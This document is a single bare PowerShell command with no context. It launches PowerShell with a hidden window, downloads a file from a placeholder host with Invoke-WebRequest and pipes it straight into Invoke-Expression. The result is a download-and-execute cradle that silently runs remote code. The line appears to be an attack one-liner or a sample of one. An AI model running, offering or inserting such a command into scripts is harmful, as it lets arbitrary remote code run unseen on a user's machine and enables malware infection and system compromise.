powershell.exe -WindowStyle Hidden -c "iwr https://files.example.invalid/a.txt | iex"
